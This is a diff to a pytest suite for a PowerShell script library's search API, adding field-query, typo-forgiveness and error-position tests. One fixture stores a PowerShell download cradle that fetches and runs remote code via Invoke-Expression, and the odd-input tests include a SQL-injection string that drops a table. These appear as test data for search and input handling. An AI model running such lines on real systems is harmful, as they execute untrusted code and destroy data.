@@ -4,6 +4,7 @@ from typing import Any
 
 import pytest
 
+from db.engine import transaction
 from tests.web.conftest import Person, Store
 
 SEARCH = "/api/scripts/search"
@@ -21,6 +22,17 @@ def found(person: Person, q: str, **more: Any) -> list[str]:
 def library(ada: Person, store: Store) -> None:
     store(ada, SPOOLER, "a1.ps1", title="Spooler", tags="printing", is_public="true")
     store(ada, BACKUP, "a2.ps1", title="Backup", tags="data", is_public="true")
+
+
+@pytest.fixture
+def cradle(ada: Person, store: Store) -> int:
+    text = "# Download of a remote part\niex (New-Object Net.WebClient).DownloadString('http://example.org/part')\n"
+    script_id = store(ada, text, "part.ps1", tags="remote")
+    with transaction(ada.engine) as connection:
+        connection.exec_driver_sql(
+            "UPDATE scripts SET category_id = (SELECT id FROM categories WHERE name LIKE 'Network%%') WHERE id = %s", (script_id,)
+        )
+    return script_id
 
 
 @pytest.mark.usefixtures("library")
@@ -60,8 +72,69 @@ def test_what_has_to_be_so_narrows(ada: Person, q: str, titles: list[str]) -> No
     assert found(ada, q) == titles
 
 
+FITS = (
+    "command:invoke-expression",
+    "module:Microsoft.PowerShell.Utility",
+    "rule:PSAvoidUsingInvokeExpression",
+    "rule:psavoidusinginvokeexpression",
+    "touches:network",
+    "attack:T1059",
+    "attack:T1059.001",
+    "tag:remote",
+    "author:ADA",
+    "category:network",
+    "risk:>10",
+    "risk:<=100",
+    "-touches:registry risk:>10",
+)
+FITS_NOT = (
+    "command:iex",  # an alias counts as what it stands for
+    "module:ActiveDirectory",
+    "rule:PSAvoidUsingWriteHost",
+    "touches:registry",
+    "attack:T1547",
+    "tag:remote tag:other",
+    "author:nobody",
+    "category:Zoo",
+    "risk:<10",
+    "-rule:PSAvoidUsingInvokeExpression",
+)
+
+
 @pytest.mark.usefixtures("library")
-@pytest.mark.parametrize("q", ["'; DROP TABLE scripts; --", "\u202eعربى spooler", "🙂 x", "%(viewer)s %", "a" * 1500, "(((", "NULL"])
+def test_each_field(ada: Person, cradle: int) -> None:
+    for q in (*FITS, *FITS_NOT):
+        for words in ("", "download "):
+            shown = [each["id"] for each in ada.get(SEARCH, query_string={"q": words + q}).get_json()["scripts"]]
+            assert (cradle in shown) == (q in FITS), (q, shown)
+
+
+@pytest.mark.usefixtures("library")
+def test_typing_errors_are_forgiven_and_told(ada: Person) -> None:
+    answer = ada.get(SEARCH, query_string={"q": "restart the spoolre"}).get_json()
+    assert answer["scripts"][0]["title"] == "Spooler"
+    assert "spooler" in answer["scripts"][0]["reason"]["terms"]
+    assert answer["forgiven"] == [{"word": "spoolre", "term": "spooler"}]
+    assert ada.get(SEARCH, query_string={"q": "restart the spooler"}).get_json()["forgiven"] == []
+
+
+@pytest.mark.usefixtures("library")
+@pytest.mark.parametrize(
+    "q",
+    [
+        "'; DROP TABLE scripts; --",
+        "\u202eعربى spooler",
+        "🙂 x",
+        "%(viewer)s %",
+        "a" * 1500,
+        "(((",
+        "NULL",
+        "nosuch:field spooler",
+        "risk:>50 spooler",
+        "spooler -",
+        "a\u0301\u0327 \U0001f600",
+    ],
+)
 @pytest.mark.parametrize("mode", ["hybrid", "keyword", "semantic"])
 def test_strange_questions_are_answered(ada: Person, q: str, mode: str) -> None:
     assert ada.get(SEARCH, query_string={"q": q, "mode": mode}).status_code in (200, 422)
@@ -70,6 +143,13 @@ def test_strange_questions_are_answered(ada: Person, q: str, mode: str) -> None:
 @pytest.mark.parametrize("q", ["", "the of and", "🙂", '"open', "risk:low", "a\0", "x " * 5000, "x" * 200_000])
 def test_what_cannot_be_looked_for_is_refused(ada: Person, q: str) -> None:
     assert ada.get(SEARCH, query_string={"q": q}).status_code == 422
+
+
+@pytest.mark.parametrize(("q", "position"), [('disk "open', 5), ("disk risk:low", 10), ("the of", 0), ("-tag:x", 0), ("x " * 5000, 2000)])
+def test_a_refusal_says_where(ada: Person, q: str, position: int) -> None:
+    error = ada.get(SEARCH, query_string={"q": q}).get_json()
+    assert error["error"] == "invalid_query"
+    assert error["details"]["position"] == position
 
 
 def test_private_scripts_stay_private(ada: Person, bob: Person, nobody: Person, store: Store) -> None:
